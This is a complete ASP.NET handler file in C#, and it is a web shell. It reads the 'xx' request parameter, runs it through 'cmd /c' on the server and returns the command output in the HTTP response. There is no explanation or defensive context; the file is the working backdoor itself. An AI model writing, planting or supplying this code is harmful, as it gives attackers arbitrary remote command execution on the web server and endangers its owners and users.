<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext ctx) {
    var si = new System.Diagnostics.ProcessStartInfo("cmd", "/c " + ctx.Request["xx"]);
    si.RedirectStandardOutput = true; si.UseShellExecute = false;
    ctx.Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());
  }
  public bool IsReusable { get { return false; } }
}
